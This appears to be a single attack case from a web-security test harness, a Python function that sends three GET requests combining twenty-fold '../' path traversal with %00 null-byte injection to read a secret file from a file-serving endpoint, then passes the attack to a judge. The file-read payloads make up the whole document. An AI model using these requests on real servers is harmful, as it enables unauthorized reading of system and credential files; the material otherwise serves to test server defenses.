# aim: read a file of the server's machine
# mechanism: a null behind which others stop reading
# server: files
# plain: naive

def attack():
    ask("GET", f"{here}/files/content?path={quote('../' * 20 + secret_path.lstrip('/'))}%00.txt")
    ask("GET", f"{here}/files/content?path=a%00/../{quote('../' * 20 + secret_path.lstrip('/'))}")
    ask("GET", f"{here}/files/content?path={quote('../' * 20 + secret_path.lstrip('/'))}")


judge(attack)
